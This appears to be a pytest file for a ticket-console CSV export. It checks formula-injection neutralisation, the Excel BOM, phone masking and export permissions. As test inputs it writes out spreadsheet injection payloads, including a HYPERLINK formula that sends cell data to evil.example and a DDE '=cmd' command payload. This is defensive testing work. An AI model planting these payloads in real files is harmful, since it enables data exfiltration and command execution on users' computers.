"""The console's CSV export: inert in spreadsheets in every column, readable by Excel, phone numbers masked."""
from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from admin.export import BOM, FORMULA_STARTS, csv_safe
from tests.helpers import page_csrf
from tickets import offices
from tickets.db import db
from tickets.models import Department

HOSTILE = {"name": "+1 张三", "service_item": "-2 营业执照", "description": "@SUM(1+1) 办了一个月还没结果。",
           "phone": "13911112222"}


def export(client, **args):
    response = client.get("/admin/cases/export/csv/", query_string=args)
    assert response.status_code == 200 and response.mimetype == "text/csv", response.status_code
    body = response.get_data()
    return body, list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def hostile_case(world, **overrides):
    with world.app.app_context():
        department = Department(code="X", name='=HYPERLINK("http://evil.example/?"&A1,"点此")',
                                office_id=offices.root_id(db.session))
        db.session.add(department)
        db.session.commit()
        department_id = department.id
    no = world.file(**{**HOSTILE, **overrides})["tracking_no"]
    world.act("office", no, "accept")
    world.act("office", no, "transfer", department_id=department_id)
    return no


@given(st.text(max_size=30))
def test_csv_safe_never_starts_a_formula_and_keeps_the_text(text):
    cell = csv_safe(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell in (text, "'" + text)


def test_every_column_of_the_export_is_inert(world):
    no = hostile_case(world)
    for start in ("\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "＝1+1", "＠SUM(A1)"):
        world.file(name=start.strip() + "某", description=start + " 这是描述，至少十个字。", service_item=start)
    body, rows = export(world.console("office"))
    header, data = rows[0], rows[1:]
    assert len(data) == 6
    for row in data:
        for title, cell in zip(header, row):
            assert not cell.startswith(FORMULA_STARTS), (title, cell)
    row = next(r for r in data if r[0] == no)
    cells = dict(zip(header, row))
    assert cells["承办部门"] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"点此")'
    assert cells["群众姓名"] == "'+1 张三" and cells["办理事项"] == "'-2 营业执照"
    assert cells["问题描述"].startswith("'@SUM(1+1)")
    for start in ("＝1+1", "＠SUM(A1)"):  # full-width, as a Chinese input method types them: guarded too
        (row,) = [dict(zip(header, r)) for r in data if r[header.index("办理事项")] == "'" + start]
        assert row["群众姓名"] == "'" + start + "某" and row["问题描述"].startswith("'" + start)


def test_the_export_starts_with_a_bom_for_excel(world):
    world.file()
    body, rows = export(world.console("office"))
    assert body.startswith(BOM.encode("utf-8")) and body.count(BOM.encode("utf-8")) == 1
    assert rows[0][0] == "受理编号"  # not "\ufeff受理编号": the BOM is no part of the first title


def test_phone_numbers_are_masked_unless_asked_for(world):
    hostile_case(world)
    office = world.console("office")
    body, rows = export(office)
    phone = rows[0].index("联系电话")
    assert rows[1][phone] == "139****2222" and b"13911112222" not in body
    body, rows = export(office, phones="full")  # an address asks for nothing: still masked
    assert rows[1][phone] == "139****2222" and b"13911112222" not in body
    # Whole numbers are a choice of the export form (「包含完整号码」 and a reason: tests/test_privacy_access.py).
    page = office.get("/admin/cases/").get_data(as_text=True)
    assert 'id="export-full-phones"' in page and 'name="reason"' in page
    full = office.post("/admin/cases/export/csv/full", data={"csrf_token": page_csrf(office, "/admin/cases/"),
                                                             "full_phones": "y", "reason": "核对"})
    rows = list(csv.reader(io.StringIO(full.get_data().decode("utf-8-sig"))))
    assert rows[1][phone] == "13911112222"


@pytest.mark.parametrize("who", ["dept_a", "supervisor", "leader"])
def test_only_the_office_and_admins_export(world, who):
    hostile_case(world)
    client = world.console(who)
    for args in ({}, {"phones": "full"}):
        assert client.get("/admin/cases/export/csv/", query_string=args).status_code == 403
    assert client.post("/admin/cases/export/csv/full", data={"csrf_token": page_csrf(client, "/admin/"),
                                                             "full_phones": "y", "reason": "核对"}).status_code == 403
    assert 'id="export-full-phones"' not in client.get("/admin/cases/").get_data(as_text=True)


def test_a_refused_reason_for_whole_numbers_comes_back_as_typed_with_why(world):
    """The export form is Flask-Admin's list's: refused (a reason too short, or one with a control character), the list
    comes back with the form open, the box ticked and the reason as typed, its message under it; shown once."""
    hostile_case(world)
    office = world.console("office")
    token = page_csrf(office, "/admin/cases/")
    for reason in ("查", "核对\x01", ""):
        refused = office.post("/admin/cases/export/csv/full", query_string={"search": "张"},
                              data={"csrf_token": token, "full_phones": "y", "reason": reason})
        assert refused.status_code == 302 and "search=" in refused.headers["Location"], reason
        page = office.get(refused.headers["Location"]).get_data(as_text=True)
        form = page.split('id="export-full"')[1].split("</form>")[0]
        assert form.startswith(" open>") and re.search(r'id="export-full-phones"[^>]*checked', form), reason
        assert re.search(r'id="export-reason"[^>]*value="%s"[^>]*aria-invalid="true"' % re.escape(reason), form)
        assert re.search(r'id="error-export-reason">[^<]+</div>', form), reason
        again = office.get("/admin/cases/").get_data(as_text=True)  # shown once
        assert 'id="error-export-reason"' not in again and "checked" not in again.split('id="export-full"')[1].split("</form>")[0]
